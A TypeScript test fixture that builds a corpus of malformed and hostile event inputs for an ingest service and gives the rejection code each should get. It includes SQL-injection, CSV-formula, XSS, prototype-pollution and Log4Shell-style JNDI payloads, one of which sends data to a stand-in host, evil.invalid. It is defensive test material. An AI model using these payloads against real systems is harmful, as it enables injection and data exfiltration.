/**
 * A corpus of hostile and malformed input, generated (not stored as files): what a broken or
 * misbehaving system, or an attacker holding an ingest token, might send. Each case says what
 * the service must answer. Used by the bad-input suite over HTTP (JSON, NDJSON, CSV) and straight
 * through Kafka (raw bytes), where each must end on the dead-letter topic with its code.
 */
import type { RejectionCode } from '@linewatch/contracts';
import { aSighting } from './factories';

export interface HostileCase {
  readonly name: string;
  /** The raw body: a JSON text (one event, or something that is not one) or bytes. */
  readonly bytes: Buffer;
  /** The rejection code expected from validation (HTTP 422 / dead-letter header). */
  readonly code: RejectionCode;
  /** Expected in the message or the errors, when it matters (which field, why). */
  readonly mentions?: string;
  /** Where HTTP intake answers otherwise: its JSON body parser takes only objects and arrays. */
  readonly overHttp?: RejectionCode;
}

/** Text fields meant to be accepted as data and stored verbatim: SQL and spreadsheet-formula injection. */
export const INJECTION_STRINGS = [
  "'; DROP TABLE intel_events; --",
  "1' OR '1'='1",
  'Robert"); DELETE FROM lines WHERE ("1"="1',
  '=HYPERLINK("http://evil.invalid/?x="&A1,"click")',
  '+cmd|" /C calc"!A0',
  '-2+3+cmd|" /C calc"!A0',
  '@SUM(1+1)*cmd|" /C calc"!A0',
  '\t=1+1',
  '\r=1+1',
  '<script>alert(1)</script>',
  '${jndi:ldap://evil.invalid/a}',
] as const;

const json = (text: string) => Buffer.from(text, 'utf8');
const event = (overrides: Record<string, unknown> = {}) => aSighting(overrides) as Record<string, unknown>;
/** JSON of a valid sighting with `extra` spliced in as raw JSON members (keys JSON.stringify would drop). */
const withRawMembers = (extra: string, overrides: Record<string, unknown> = {}) => {
  const text = JSON.stringify(event(overrides));
  return json(`{${extra},${text.slice(1)}`);
};
const deep = (depth: number) => `${'['.repeat(depth)}${']'.repeat(depth)}`;

/** Day offsets from `now`, as ISO instants. */
const daysFrom = (now: Date, days: number) => new Date(now.getTime() + days * 86_400_000).toISOString();

/** Cases each rejected alone (one JSON value, or one line/message); `now` sets the future-date cases. */
export function hostileEventCases(now: Date = new Date()): HostileCase[] {
  const lineId = () => `HOSTILE-${Math.random().toString(36).slice(2, 10)}`;
  return [
    { name: 'broken JSON', bytes: json('{"eventId": "x", "type": '), code: 'MALFORMED_JSON' },
    { name: 'a JSON text that is not an object', bytes: json('"line.sighting"'), code: 'NOT_AN_OBJECT', overHttp: 'MALFORMED_JSON' },
    { name: 'a JSON array of non-events', bytes: json('["line.sighting", 1, null]'), code: 'NOT_AN_OBJECT' },
    { name: 'no type at all', bytes: json('{}'), code: 'UNKNOWN_TYPE' },
    // 200 KB: large, yet a whole corpus still fits in one Kafka batch (1 MB by default).
    { name: 'a 200 KB type', bytes: json(JSON.stringify(event({ type: 'x'.repeat(200_000) }))), code: 'UNKNOWN_TYPE' },
    {
      name: '10,000-deep nesting in a field',
      bytes: json(JSON.stringify(event({ body: { kind: 'other', note: 'DEEP' } })).replace('"DEEP"', deep(10_000))),
      code: 'INVALID_FIELDS',
      mentions: 'nested deeper',
    },
    {
      name: 'wrong types everywhere',
      bytes: json(JSON.stringify(event({ eventId: 42, occurredAt: true, lineId: { id: 'x' }, body: ['bulk_text'] }))),
      code: 'INVALID_FIELDS',
      mentions: 'eventId',
    },
    { name: 'a grading as a string', bytes: json(JSON.stringify(event({ grading: '2B P' }))), code: 'INVALID_GRADING' },
    {
      name: 'a number too large for a double',
      bytes: json(JSON.stringify(event()).replace('"bulk_text"', '1e400')),
      code: 'INVALID_FIELDS',
    },
    {
      name: 'a __proto__ key at the top',
      bytes: withRawMembers('"__proto__":{"polluted":"yes","isAdmin":true}'),
      code: 'INVALID_FIELDS',
      mentions: '__proto__',
    },
    {
      name: 'a constructor.prototype key',
      bytes: withRawMembers('"constructor":{"prototype":{"polluted":"yes"}}'),
      code: 'INVALID_FIELDS',
      mentions: 'constructor',
    },
    {
      name: 'a __proto__ key in the body',
      bytes: json(
        JSON.stringify(event({ body: { kind: 'other' } })).replace('{"kind":"other"}', '{"kind":"other","__proto__":{"polluted":"yes"}}'),
      ),
      code: 'INVALID_FIELDS',
      mentions: 'body.__proto__',
    },
    {
      name: 'a __proto__ grading (prototype of the grading replaced)',
      bytes: json(
        JSON.stringify(event()).replace(/"grading":\{[^}]*\}/, '"grading":{"__proto__":{"source":"1","intelligence":"A","handling":"P"}}'),
      ),
      code: 'INVALID_GRADING',
    },
    {
      name: 'a NUL character in a text field',
      bytes: json(JSON.stringify(event({ body: { kind: 'other', note: 'before\u0000after' } }))),
      code: 'INVALID_FIELDS',
      mentions: 'NUL',
    },
    { name: 'a NUL character in a field name', bytes: withRawMembers('"x\\u0000":1'), code: 'INVALID_FIELDS', mentions: 'NUL' },
    {
      name: 'an unpaired surrogate (not Unicode)',
      bytes: json(JSON.stringify(event({ body: { kind: 'other', note: 'NOTE' } })).replace('"NOTE"', '"\\ud800x"')),
      code: 'INVALID_FIELDS',
      mentions: 'not valid Unicode',
    },
    {
      name: 'a note over 2,000 characters',
      bytes: json(JSON.stringify(event({ body: { kind: 'other', note: 'n'.repeat(2001) } }))),
      code: 'INVALID_FIELDS',
      mentions: 'body.note',
    },
    {
      name: 'a line id over 64 characters',
      bytes: json(JSON.stringify(event({ lineId: 'L'.repeat(65) }))),
      code: 'INVALID_FIELDS',
      mentions: 'lineId',
    },
    {
      name: 'a source reference over 128 characters',
      bytes: json(JSON.stringify(event({ source: { system: 's', reference: 'r'.repeat(129) } }))),
      code: 'INVALID_FIELDS',
      mentions: 'source.reference',
    },
    {
      name: 'a date a day in the future',
      bytes: json(JSON.stringify(event({ lineId: lineId(), occurredAt: daysFrom(now, 1) }))),
      code: 'FUTURE_EVENT',
    },
    { name: 'the year 9999', bytes: json(JSON.stringify(event({ occurredAt: '9999-12-31T23:59:59Z' }))), code: 'FUTURE_EVENT' },
    {
      name: 'the Unix epoch (a conversion error)',
      bytes: json(JSON.stringify(event({ occurredAt: '1970-01-01T00:00:00Z' }))),
      code: 'ANCIENT_EVENT',
    },
    { name: 'the year 1', bytes: json(JSON.stringify(event({ occurredAt: '0001-01-01T00:00:00Z' }))), code: 'ANCIENT_EVENT' },
    { name: 'a reportedAt before 1990', bytes: json(JSON.stringify(event({ reportedAt: '1989-12-31T23:59:59Z' }))), code: 'ANCIENT_EVENT' },
    {
      name: 'an SQL fragment as the area',
      bytes: json(JSON.stringify(event({ area: "bath' OR '1'='1" }))),
      code: 'INVALID_FIELDS',
      mentions: 'area',
    },
  ];
}

/** Bytes that are not UTF-8: rejected as MALFORMED_JSON wherever they arrive. */
export function invalidUtf8Event(): Buffer {
  const text = JSON.stringify(aSighting({ body: { kind: 'other', note: 'BYTES' } }));
  const [before, after] = text.split('BYTES');
  return Buffer.concat([Buffer.from(before), Buffer.from([0xc3, 0x28, 0xa0, 0xa1, 0xff]), Buffer.from(after)]);
}

/** Valid events whose text fields carry injection strings: accepted as data, stored verbatim. */
export function injectionEvents(): Record<string, unknown>[] {
  return INJECTION_STRINGS.map((text, i) =>
    event({
      source: { system: 'hostile-tests', reference: text.slice(0, 128) },
      body: { kind: 'intelligence_report', brand: text.slice(0, 64), note: `${text} #${i}` },
    }),
  );
}
